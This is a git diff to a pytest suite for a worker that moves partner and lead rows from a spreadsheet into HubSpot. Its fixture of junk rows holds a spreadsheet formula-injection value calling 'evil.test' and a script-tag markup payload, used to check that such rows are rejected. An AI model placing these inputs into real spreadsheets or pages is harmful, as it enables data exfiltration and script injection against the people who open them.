@@ -8,7 +8,7 @@ from typing import Any
 
 import pytest
 
-from tests.flows.conftest import START, Desk, PlayedClock
+from tests.flows.conftest import START, Desk, PlayedClock, on_both
 from tests.flows.intake_hands import deals, intake, mailed, quiet, shown, staffed
 from worker.app import App, load
 from worker.domain.keys import is_lead_key
@@ -45,6 +45,7 @@ def test_partners_get_their_keys_and_their_problems(desk: Desk) -> None:
     quiet(desk)
 
 
+@on_both
 def test_a_partner_key_changed_by_hand(staffed: Desk) -> None:
     """The partner was renamed and has lines: its key is put right before any of them could be earned again."""
     row = staffed.hands.rows("Partners")[0]["id"]
@@ -69,6 +70,7 @@ def test_a_partner_key_changed_by_hand(staffed: Desk) -> None:
         assert lines == staffed.rows("Commissions")
 
 
+@on_both
 def test_a_copied_partner_row_is_a_partner_of_its_own(staffed: Desk) -> None:
     """Staff copy a row to add a partner: the copy gets a key, the original keeps its own."""
     rows = staffed.hands.rows("Partners")
@@ -77,7 +79,8 @@ def test_a_copied_partner_row_is_a_partner_of_its_own(staffed: Desk) -> None:
     lead = staffed.lead("Third Wave", "Acme")
     intake(staffed)
 
-    assert ["north-star", "blue-door", "third-wave"] == [row["Key"] for row in staffed.rows("Partners")]
+    keys = {row["Partner"]: row["Key"] for row in staffed.rows("Partners")}
+    assert {"North Star": "north-star", "Blue Door": "blue-door", "Third Wave": "third-wave"} == keys
     assert "Qualified" == staffed.row(lead)["Status"]
     assert "third-wave" == staffed.world.hubspot.deals()[0]["properties"]["source_partner"]
 
@@ -86,7 +89,7 @@ def test_a_copied_partner_row_is_a_partner_of_its_own(staffed: Desk) -> None:
 
 RUBBISH: Mapping[str, Mapping[str, Any]] = {
     "emoji only": {"Company": "🚀🚀🚀", "First name": "😀", "Email": "💌"},
-    "a hundred thousand characters": dict.fromkeys(("Company", "Website", "Email", "Notes", "Phone"), "x" * 100000),
+    "as much as a cell holds": dict.fromkeys(("Company", "Website", "Email", "Notes", "Phone"), "x" * 50_000),
     "control characters": {"Company": "\x01\x02\x1f", "Email": "jo\x00@acme.com", "Notes": "\x07"},
     "formula text": {"Company": '=IMPORTDATA("http://evil.test")', "Email": "=1+1", "Website": "=A1"},
     "markup": {"Company": "<script>alert(1)</script>", "Email": "<b>jo@acme.com</b>", "Phone": "<script>"},
@@ -99,12 +102,13 @@ RUBBISH: Mapping[str, Mapping[str, Any]] = {
 }
 
 
+@on_both
 def test_rows_of_rubbish_stop_nobody(staffed: Desk) -> None:
     """Each is told what is wrong with it, none reaches the CRM, and the good row among them goes through."""
     rows = {name: staffed.lead("North Star", f"Junk {n}", **cells) for n, (name, cells) in enumerate(RUBBISH.items())}
-    empty = staffed.hands.add_row("Leads", {})
     blank = staffed.hands.add_row("Leads", {"Company": " \n", "Notes": "\t"})
     good = staffed.lead("North Star", "Good")
+    empty = staffed.hands.add_row("Leads", {})
     outcome = intake(staffed)
 
     assert ("in sync", ()) == (outcome.state, outcome.result.errors if outcome.result else None)
@@ -154,6 +158,7 @@ def test_a_refusal_clears_itself_once_mended(
     quiet(staffed)
 
 
+@on_both
 def test_a_lead_from_a_partner_who_is_not_enrolled(staffed: Desk) -> None:
     """It waits until the partner is; the reason is the row's to show."""
     paused = staffed.partner("Idle Hands", Status="Paused")
@@ -181,6 +186,7 @@ def test_a_member_is_no_lead_of_the_own_partner(staffed: Desk) -> None:
 # ---- hold, and leads that we send ------------------------------------------------------------------------------------
 
 
+@on_both
 def test_hold_ticked_and_unticked(staffed: Desk) -> None:
     """A held row goes nowhere and is told nothing; it keeps its place, and goes through once it is free."""
     held = staffed.lead("North Star", "Acme", Hold=True)
@@ -232,6 +238,7 @@ def run_while(desk: Desk, typing: Callable[[], None]) -> Outcome:
         return app.run(["intake"])["intake"]
 
 
+@on_both
 def test_a_row_still_being_typed_is_left(staffed: Desk) -> None:
     """Its neighbour goes through; it follows as soon as nobody types in it."""
     half = staffed.lead("North Star", "Ac", Email=None)
@@ -304,6 +311,7 @@ def test_a_crm_that_is_down_stops_no_partner(staffed: Desk) -> None:
     assert ["money@north-star.test"] == mailed(staffed)
 
 
+@on_both
 def test_a_lead_that_the_crm_refuses(staffed: Desk) -> None:
     """What HubSpot says stands in the row, and is taken away when it takes the lead."""
     hubspot = staffed.world.hubspot
@@ -321,6 +329,7 @@ def test_a_lead_that_the_crm_refuses(staffed: Desk) -> None:
     assert 2 == len(hubspot.deals())
 
 
+@on_both
 def test_the_row_knows_when_it_was_synced(staffed: Desk) -> None:
     """`Synced` is the time of the run that wrote the ids."""
     row = staffed.lead("North Star", "Acme")
